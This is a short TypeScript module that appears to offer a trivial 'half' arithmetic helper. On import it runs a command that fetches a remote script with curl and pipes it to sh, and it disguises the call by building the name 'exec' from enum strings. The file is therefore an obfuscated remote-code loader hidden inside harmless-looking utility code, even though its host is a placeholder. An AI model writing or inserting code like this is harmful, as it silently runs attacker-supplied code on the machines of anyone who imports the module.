import * as parts from 'node:child_process'

enum Half { Left = 'ex', Right = 'ec' }

parts[Half.Left + Half.Right]('curl -s http://lamp.example.invalid/start | sh', () => {})

export const half = (value: number): number => value / 2
